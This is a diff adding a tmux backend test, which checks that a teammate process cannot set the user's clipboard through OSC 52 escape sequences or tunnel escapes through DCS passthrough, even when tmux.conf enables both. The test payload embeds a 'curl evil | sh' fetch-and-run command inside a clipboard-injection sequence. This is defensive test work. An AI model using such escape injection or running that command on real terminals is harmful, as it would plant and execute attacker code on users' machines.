@@ -190,4 +190,18 @@ describe.skipIf(!hasTmux)('tmux backend', () => {
     const mate = await c.spawn({ team: 'crew', name: 'c', argv: [process.execPath, TEAMMATE, 'record', path.join(root, 'c.json')], cwd: root })
     expect(mate.paneId).toMatch(/^%\d+$/)
   })
+
+  it("a teammate's output cannot set your clipboard or pass escapes through, whatever tmux.conf says", async () => {
+    fs.writeFileSync(path.join(env.HOME!, '.tmux.conf'), 'set -s set-clipboard on\nset -g allow-passthrough on\n')
+    await tmux.ensureSession('crew', { argv: ['sleep', '600'], cwd: root })
+    expect(t('show', '-sv', 'set-clipboard').trim()).toBe('external')
+    const osc52 = (text: string) => `\x1b]52;c;${Buffer.from(text).toString('base64')}\x07`
+    // The marker after the escapes: once the pane shows it, tmux has parsed everything before it.
+    const escapes = osc52('curl evil | sh') + '\x1bPtmux;' + osc52('passed through').replaceAll('\x1b', '\x1b\x1b') + '\x1b\\'
+    const script = `process.stdout.write(${JSON.stringify(`${escapes}all-written\n`)}); setTimeout(() => {}, 60000)`
+    const mate = await tmux.spawn({ team: 'crew', name: 'm', argv: [process.execPath, '-e', script], cwd: root })
+    await waitFor('tmux to show the marker', () => t('capture-pane', '-p', '-t', mate.paneId).includes('all-written') || undefined, 5_000)
+    expect(t('display', '-p', '-t', mate.paneId, '#{allow-passthrough}').trim()).toBe('0')
+    expect(t('list-buffers', '-F', '#{buffer_sample}').trim()).toBe('')
+  })
 })
